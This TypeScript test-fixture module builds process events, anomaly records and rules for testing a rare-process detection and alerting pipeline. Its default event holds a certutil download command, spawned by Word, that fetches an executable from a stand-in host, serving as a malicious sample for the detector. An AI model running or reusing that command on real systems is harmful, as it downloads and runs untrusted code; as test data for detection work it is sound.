// Builders of scored events, anomaly records and rules for the rules/alerts tests (small, explicit values).

import type { ScoredEvent } from '../classify/types.js';
import type { AnomalyRecord } from '../rarity/types.js';
import { parseDuration, parseLookback } from './duration.js';
import { ruleSchema, type LoadedRule, type Rule } from './schema.js';

export const T0 = Date.UTC(2026, 0, 5); // a Monday, 00:00Z
export const MIN = 60_000;

export interface EventSpec {
  timeMs: number;
  user?: string;
  host?: string;
  name?: string;
  parent?: string;
  parentExe?: string | null;
  cmd?: string;
  p?: number;
  userId?: string;
  exe?: string;
  id?: string;
  line?: number;
}

export function scoredEvent(s: EventSpec): ScoredEvent {
  const p = s.p ?? 0.99;
  const name = s.name ?? 'certutil.exe';
  return {
    event: {
      '@timestamp': new Date(s.timeMs).toISOString(),
      event: { kind: 'event', category: ['process'], type: ['start'], ...(s.id ? { id: s.id } : {}) },
      host: { name: s.host ?? 'WS-01' },
      user: { name: s.user ?? 'alice', id: s.userId ?? 'S-1-5-21-1-1001' },
      process: {
        name,
        executable: s.exe ?? `C:\\Windows\\System32\\${name}`,
        command_line: s.cmd ?? `${name} -urlcache -f http://x.test/a.exe a.exe`,
        pid: 4242,
        parent: {
          name: s.parent ?? 'winword.exe',
          ...(s.parentExe === null ? {} : { executable: s.parentExe ?? 'C:\\Program Files\\Microsoft Office\\WINWORD.EXE' }),
        },
      },
    },
    timeMs: s.timeMs,
    shape: 'ecs',
    origin: { file: 'events.ndjson', line: s.line ?? 1 },
    problemchild: { prediction: p >= 0.5 ? 1 : 0, prediction_probability: p >= 0.5 ? p : 1 - p },
    classifier: {
      malicious_probability: p,
      model: 'test-model',
      top_features: [{ feature: 'cmd.has_url', description: 'command line holds a URL', contribution: 2.5 }],
    },
  };
}

export interface RecordSpec {
  timestamp: number;
  score: number;
  user?: string;
  process?: string;
  job?: string;
  interim?: boolean;
  eventIds?: string[];
}

export function anomalyRecord(s: RecordSpec): AnomalyRecord {
  const user = s.user ?? 'alice';
  const proc = s.process ?? 'certutil.exe';
  return {
    job_id: s.job ?? 'problem_child_rare_process_by_user',
    result_type: 'record',
    timestamp: s.timestamp,
    bucket_span: 900,
    detector_index: 0,
    is_interim: s.interim ?? false,
    probability: 1e-6,
    record_score: s.score,
    initial_record_score: s.score,
    function: 'rare',
    function_description: 'rare',
    by_field_name: 'process.name',
    by_field_value: proc,
    partition_field_name: 'user.name',
    partition_field_value: user,
    influencers: [
      { influencer_field_name: 'host.name', influencer_field_values: ['WS-01'] },
      { influencer_field_name: 'process.command_line', influencer_field_values: [`${proc} /c x`] },
      { influencer_field_name: 'process.name', influencer_field_values: [proc] },
      { influencer_field_name: 'user.name', influencer_field_values: [user] },
    ],
    actual: [1],
    typical: [0.01],
    scorer: 'elastic_rare',
    explanation: {
      first_occurrence: true,
      category_buckets: 1,
      entity_buckets: 200,
      other_entities_with_category: 0,
      entities_total: 10,
      event_ids: s.eventIds ?? [],
      summary: `${proc} is new for ${user}`,
    },
  };
}

/** A rule from fields (defaults filled by the schema), loaded as if from a file. */
export function loadedRule(fields: Record<string, unknown>): LoadedRule {
  const ml = fields.type === 'query' ? {} : { type: 'machine_learning', machine_learning_job_id: 'problem_child_rare_process_by_user', anomaly_threshold: 75 };
  const rule: Rule = ruleSchema.parse({
    rule_id: '40155ee4-1e6a-4e4d-a63b-e8ba16980cfb',
    name: 'Unusual Process Spawned by a User',
    description: 'test',
    ...ml,
    interval: '15m',
    from: 'now-45m',
    severity: 'low',
    risk_score: 21,
    version: 1,
    author: ['oddspawn'],
    license: 'Apache-2.0',
    ...fields,
  });
  return {
    rule,
    metadata: { creation_date: '2026/01/01', updated_date: '2026/01/01', maturity: 'production' },
    file: 'test.toml',
    intervalMs: parseDuration(rule.interval)!,
    lookbackMs: parseLookback(rule.from)!,
  };
}
